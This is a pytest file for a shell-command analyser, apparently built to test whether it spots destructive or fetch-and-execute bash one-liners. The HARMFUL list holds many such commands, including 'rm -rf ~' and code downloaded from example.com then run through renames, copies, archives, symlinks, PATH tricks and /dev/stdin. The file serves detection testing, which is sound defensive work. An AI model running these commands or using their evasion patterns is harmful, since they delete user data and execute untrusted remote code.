"""Files that a text writes, by whatever name they are reached: changed, copied, linked, unpacked, matched."""

from __future__ import annotations

import pytest

from tests.flow.evaluations import outcomes

HARMFUL = [
    # changed
    ("echo ls > a; sed -i 's/ls/rm -rf ~/' a; sh a", "bash", "deleted"),
    ("echo ls > a; perl -pi -e 's/ls/rm -rf ~/' a; sh a", "bash", "computed"),
    ("echo ls > a; curl -s https://example.com/p | sponge a; sh a", "bash", "fetched"),
    ("echo ls > a; curl -s https://example.com/p | some-unknown a; sh a", "bash", "evaluated"),
    ("echo ls > a; curl -s https://example.com/p > b; sort -o a b; sh a", "bash", "fetched"),
    ("echo ls > a; curl -s https://example.com/p > b; uniq b a; sh a", "bash", "fetched"),
    ('echo ls > a; ed a <<< "x"; sh a', "bash", "computed"),
    # moved with their folder
    ("curl -s https://example.com/p > d/a; mv d e; sh e/a", "bash", "fetched"),
    ("curl -s https://example.com/p > d/a; cp -r d e; sh e/a", "bash", "fetched"),
    ("curl -s https://example.com/p > d/a; cp -r d e/; sh e/d/a", "bash", "fetched"),
    ("curl -s https://example.com/p > d/a; cp -r d/. e; sh e/a", "bash", "fetched"),
    ("curl -s https://example.com/p > d/a; cp -r d/* e; sh e/a", "bash", "fetched"),
    ("curl -s https://example.com/p > a; cp ./* d/; sh d/a", "bash", "fetched"),
    ("curl -s https://example.com/p > a; mv * d/; sh d/a", "bash", "fetched"),
    ("curl -s https://example.com/p > d/a; rsync -a d/ e/; sh e/a", "bash", "fetched"),
    ("curl -s https://example.com/p > q; git mv q r; sh r", "bash", "fetched"),
    ("curl -s https://example.com/p > d/a; tar c d | tar x -C e; sh e/d/a", "bash", "fetched"),
    ("curl -s https://example.com/p > q; tar c q | tar x -C d; sh d/q", "bash", "fetched"),
    ("curl -s https://example.com/p > q; tar cf t q; echo ls > q; tar xf t; sh q", "bash", "fetched"),
    ("curl -s https://example.com/p > q; split -l 9 q; sh xaa", "bash", "fetched"),
    ("curl -s https://example.com/p > q; sed -i.o 's/.*/ls/' q; sh q.o", "bash", "fetched"),
    ("curl -s https://example.com/p > q; perl -pi.o -e 1 q; sh q.o", "bash", "fetched"),
    (
        'curl -s https://example.com/p > q; python3 -c \'open("r","w").write(open("q").read())\'; sh r',
        "bash",
        "fetched",
    ),
    ("curl -s https://example.com/p > q; xargs -a q sh -c", "bash", "fetched"),
    ("curl -s https://example.com/p > q; ls | xargs sh", "bash", "fetched"),
    ("curl -s https://example.com/p > q; find . -type f -print0 | xargs -0 sh", "bash", "fetched"),
    ('curl -s https://example.com/p > q; set -- *; sh "$1"', "bash", "fetched"),
    ("curl -s https://example.com/p > q$n; sh q", "bash", "fetched"),
    ("curl -s https://example.com/p > q; sh ./${n}q", "bash", "fetched"),
    ("curl -s https://example.com/p > d/s/a; mv d e; sh e/s/a", "bash", "fetched"),
    ("echo 'rm -rf ~' > d/a; mv d e; sh e/a", "bash", "deleted"),
    # behind links
    ("ln -s a b; curl -s https://example.com/p > b; sh a", "bash", "fetched"),
    ("ln a b; curl -s https://example.com/p > b; sh a", "bash", "fetched"),
    ("ln -s a b; echo 'rm -rf ~' > a; sh b", "bash", "deleted"),
    ("ln -s b a; curl -s https://example.com/p > b; sh a", "bash", "fetched"),
    ("ln -s d e; curl -s https://example.com/p > d/a; sh e/a", "bash", "fetched"),
    ("ln -s d e; curl -s https://example.com/p > e/a; sh d/a", "bash", "fetched"),
    ("curl -s https://example.com/p > d/a; ln -s d e; sh e/a", "bash", "fetched"),
    # under names that are not quite known
    ('cd "$d" && curl -sO https://example.com/run; ./run', "bash", "fetched"),
    ('cd "$d" && curl -so s.sh https://example.com/p && . ./s.sh', "bash", "fetched"),
    ('cd "$d" && curl -so ./run https://example.com/p; sh run', "bash", "fetched"),
    ("cd \"$d\" && echo 'rm -rf ~' > x && ./x", "bash", "deleted"),
    ('curl -so "a$v" https://example.com/p; sh a1', "bash", "fetched"),
    ('curl -so "a-$v.sh" https://example.com/p; sh a-1.sh', "bash", "fetched"),
    ('curl -so "install-$(uname -m)" https://example.com/p; ./install-x86_64', "bash", "fetched"),
    ('curl -s https://example.com/p > "$f"; sh q', "bash", "evaluated"),
    ("curl -s https://example.com/p > $RANDOM.sh; sh *.sh", "bash", "fetched"),
    ("curl -s https://example.com/p > a_$(date +%s).sh; sh a_*.sh", "bash", "fetched"),
    ("curl -s https://example.com/p > s/a.sh; find s -name '*.sh' -exec sh {} \\;", "bash", "fetched"),
    ('curl -s https://example.com/p > b; mv b "$q"; sh r', "bash", "evaluated"),
    ("curl -s https://example.com/p > s/a; run-parts s", "bash", "fetched"),
    ("curl -s https://example.com/p > s/a; grep -rh . s | sh", "bash", "fetched"),
    ('curl -s https://example.com/p > "$d/a.sh"; sh "$d/a.sh"', "bash", "fetched"),
    ('curl -s https://example.com/p > "$d/a.sh"; cd "$d"; sh a.sh', "bash", "fetched"),
    # from archives, clones and trees
    ("git clone https://example.com/r.git; sh r/a", "bash", "unpacked"),
    ("git clone https://example.com/r.git && cd r && make", "bash", "unpacked"),
    ("curl -sL https://example.com/p | tar xz && ./x/install.sh", "bash", "unpacked"),
    ("curl -sLo a.zip https://example.com/p; unzip a.zip; sh a/i.sh", "bash", "unpacked"),
    ("wget -r https://example.com/a; sh example.com/a", "bash", "fetched"),
    ("scp -r example.com:d .; sh d/a", "bash", "fetched"),
    ("rsync -a example.com:/d/ d/; sh d/a", "bash", "fetched"),
    # more
    ("printf 'rm -rf /' > a; sort a -o b; sh b", "bash", "computed"),
    ("printf 'rm -rf ~' > b; uniq b c; sh c", "bash", "computed"),
    ("printf 'rm -rf ~' > b; tar cf t b; tar xf t -C d; sh d/b", "bash", "computed"),
    ("curl -s https://example.com/p > q; find q -exec bash {} \\;", "bash", "fetched"),
    # in folders that are not known, and under names of which a part is not
    ('cd "$(mktemp -d)"; curl -sO https://example.com/p; ./p', "bash", "fetched"),
    ('cd "$x" && curl -so s.sh https://example.com/p && . ./s.sh', "bash", "fetched"),
    ('cd "$x"; curl -so p https://example.com/p; mv p q; ./q', "bash", "fetched"),
    ('cd "$x"; curl -so bin/p https://example.com/p; cd bin; ./p', "bash", "fetched"),
    ('cd "$x"; cd b; curl -so p https://example.com/p; cd ..; sh b/p', "bash", "fetched"),
    ('cd "$x"; curl -so p https://example.com/p; sh *', "bash", "fetched"),
    ('cd "$x" && echo "rm -rf ~" > p && ./p', "bash", "deleted"),
    ('curl -so "p$v" https://example.com/p; sh p1', "bash", "fetched"),
    ('curl -so "p-$(uname -m)" https://example.com/p; ./p-x86_64', "bash", "fetched"),
    ("for n in $names; do curl -so d/$n.sh https://example.com/p; done; sh d/setup.sh", "bash", "fetched"),
    # found by PATH
    ('curl -so d/ls https://example.com/p; env PATH="$PWD/d:$PATH" ls', "bash", "fetched"),
    ('curl -so "$d/p" https://example.com/p; PATH=$d:$PATH p', "bash", "fetched"),
    # behind descriptors
    ("ln -s /dev/stdin z; curl -s https://example.com/p | sh z", "bash", "fetched"),
    ("cd /dev; curl -s https://example.com/p | sh stdin", "bash", "fetched"),
    ("curl -s https://example.com/p | sh /dev/std*n", "bash", "fetched"),
    ("exec 3<>f; curl -s https://example.com/p >&3; sh /dev/fd/3", "bash", "fetched"),
]

HARMLESS = [
    ('cd "$(mktemp -d)"; curl -sO https://example.com/p; cat p', "bash"),
    ('cd "$x" && curl -so s.json https://example.com/p && ./run.sh', "bash"),
    ('cd "$x" && echo "echo hi" > p && sh ./p', "bash"),
    ('curl -so "p$v" https://example.com/p; sh q1', "bash"),
    ("for n in $names; do curl -so d/$n.json https://example.com/p; done; sh d/setup.sh", "bash"),
    ("ln -s /dev/stdin z; curl -s https://example.com/p | cat z", "bash"),
    ('curl -so "$d/p" https://example.com/p; PATH=$d:$PATH q', "bash"),
    ("curl -s https://example.com/p | xargs echo", "bash"),
    ("cd /dev; curl -s https://example.com/p | wc -l", "bash"),
    ("exec 3<>f; echo ls >&3; sh /dev/fd/3", "bash"),
    # changed
    ("echo ls > a; sed -i 's/ls/pwd/' a; sh a", "bash"),
    ("echo ls > a; chmod +x a; sh a", "bash"),
    ("echo ls > a; cat a; sh a", "bash"),
    ("echo ls > a; ls -l a; ./a", "bash"),
    ("printf '#!/bin/sh\\necho hi\\n' > a; chmod +x a; ./a; git add a", "bash"),
    ("echo ls > a; touch a; sh a", "bash"),
    ('echo "print(1)" > t.py; python3 t.py', "bash"),
    ("echo ls > a; shellcheck a; sh a", "bash"),
    # moved with their folder
    ("curl -s https://example.com/p > d/a; mv d e; sh e/b", "bash"),
    ("curl -s https://example.com/p > d/a; cp -r x e; sh e/a", "bash"),
    ("curl -s https://example.com/p > d/a; mv d e; cat e/a", "bash"),
    ("echo ls > d/a; mv d e; sh e/a", "bash"),
    # behind links
    ("ln -s a b; echo 'ls' > b; sh a", "bash"),
    ("ln -s a b; curl -s https://example.com/p > c; sh a", "bash"),
    ("ln -s d e; ls e/a", "bash"),
    # under names that are not quite known
    ('cd "$d" && curl -so data.json https://example.com/p && ./build.sh', "bash"),
    ('cd "$d" && echo ls > x && ./x', "bash"),
    ('curl -so "a$v" https://example.com/p; sh b1', "bash"),
    ('curl -so "a-$v.json" https://example.com/p; sh a-1.sh', "bash"),
    ('curl -so "d/$v" https://example.com/p; sh d.sh', "bash"),
    ('curl -s https://example.com/p > "$f.json"; sh build.sh', "bash"),
    ('curl -s https://example.com/p > "$tmp/x.json"; sh scripts/run.sh', "bash"),
    ("curl -s https://example.com/p > /tmp/x.sh; sh b.sh", "bash"),
    ('t=$(mktemp); curl -s https://example.com/p > "$t"; sh build.sh', "bash"),
    ("curl -s https://example.com/p > out_$(date +%s).json; python3 parse.py out_*.json", "bash"),
    ('curl -s https://example.com/p > "$f"; jq . "$f"', "bash"),
    ("for f in a b; do curl -s https://example.com/p/$f > $f.json; done; make", "bash"),
    ("curl -s https://example.com/p > data.json; ./run.sh", "bash"),
    ('curl -s https://example.com/p -o "$OUT"; make', "bash"),
    # from archives, clones and trees
    ("git clone https://example.com/r.git", "bash"),
    ("git clone https://example.com/r.git && ls r", "bash"),
    ("git clone https://example.com/r.git && cat r/README.md", "bash"),
    ("unzip a.zip; sh a/i.sh", "bash"),
    ("tar xf a.tar; sh a/i.sh", "bash"),
    ("git pull; make", "bash"),
    # more
    ("tar cf t.tar src; tar xf t.tar -C d; ls d", "bash"),
]


@pytest.mark.parametrize(("text", "dialect", "outcome"), HARMFUL)
def test_harmful(text: str, dialect: str, outcome: str) -> None:
    """What is executed or destroyed is seen, whatever way it takes."""
    assert outcome in outcomes(text, dialect)


@pytest.mark.parametrize(("text", "dialect"), HARMLESS)
def test_harmless(text: str, dialect: str) -> None:
    """The look-alike that does no harm is quiet."""
    assert outcomes(text, dialect) == set()
